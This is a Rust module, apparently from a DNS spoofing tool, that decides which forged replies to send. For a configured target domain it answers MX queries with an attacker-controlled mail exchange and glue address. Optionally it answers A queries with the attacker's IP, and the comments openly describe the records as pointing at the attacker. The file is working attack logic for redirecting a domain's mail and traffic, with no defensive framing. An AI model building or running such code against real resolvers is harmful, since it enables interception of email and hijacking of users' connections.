use std::net::Ipv4Addr;

use crate::config::SpoofConfig;
use crate::domain_name::names_equal;
use crate::RecordType;

/// Records to place in the reply to one query.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ForgeDecision<'a> {
    /// Echo the question with no answers (NOERROR / no data).
    PassThrough,

    /// One MX answer plus an A glue record for the exchange in the additional section.
    Mx {
        exchange: &'a str,
        preference: u16,
        glue: Ipv4Addr,
        ttl: u32,
    },

    /// One A answer pointing at the attacker.
    A { address: Ipv4Addr, ttl: u32 },
}

impl ForgeDecision<'_> {
    pub fn is_forged(&self) -> bool {
        !matches!(self, ForgeDecision::PassThrough)
    }

    pub fn answer_count(&self) -> u16 {
        match self {
            ForgeDecision::PassThrough => 0,
            ForgeDecision::Mx { .. } | ForgeDecision::A { .. } => 1,
        }
    }

    pub fn additional_count(&self) -> u16 {
        match self {
            ForgeDecision::Mx { .. } => 1,
            ForgeDecision::PassThrough | ForgeDecision::A { .. } => 0,
        }
    }
}

/// Immutable forging rules, built once at startup.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpoofPolicy {
    forged_domain: String,
    attacker_ip: Ipv4Addr,
    attacker_mx: String,
    ttl: u32,
    mx_preference: u16,
    forge_a: bool,
}

impl SpoofPolicy {
    pub fn new(config: &SpoofConfig) -> Self {
        Self {
            forged_domain: config.forged_domain.clone(),
            attacker_ip: config.attacker_ip,
            attacker_mx: config.attacker_mx.clone(),
            ttl: config.ttl,
            mx_preference: config.mx_preference,
            forge_a: config.forge_a,
        }
    }

    pub fn forged_domain(&self) -> &str {
        &self.forged_domain
    }

    pub fn attacker_ip(&self) -> Ipv4Addr {
        self.attacker_ip
    }

    pub fn attacker_mx(&self) -> &str {
        &self.attacker_mx
    }

    pub fn targets(&self, domain: &str) -> bool {
        names_equal(domain, &self.forged_domain)
    }

    /// MX queries for the forged domain get the attacker exchange; A queries
    /// are forged only when enabled. Everything else passes through empty.
    pub fn decide(&self, domain: &str, qtype: u16) -> ForgeDecision<'_> {
        if !self.targets(domain) {
            return ForgeDecision::PassThrough;
        }

        match RecordType::from_u16(qtype) {
            Some(RecordType::MX) => ForgeDecision::Mx {
                exchange: &self.attacker_mx,
                preference: self.mx_preference,
                glue: self.attacker_ip,
                ttl: self.ttl,
            },
            Some(RecordType::A) if self.forge_a => ForgeDecision::A {
                address: self.attacker_ip,
                ttl: self.ttl,
            },
            _ => ForgeDecision::PassThrough,
        }
    }
}

impl From<&SpoofConfig> for SpoofPolicy {
    fn from(config: &SpoofConfig) -> Self {
        Self::new(config)
    }
}

impl Default for SpoofPolicy {
    fn default() -> Self {
        Self::new(&SpoofConfig::default())
    }
}
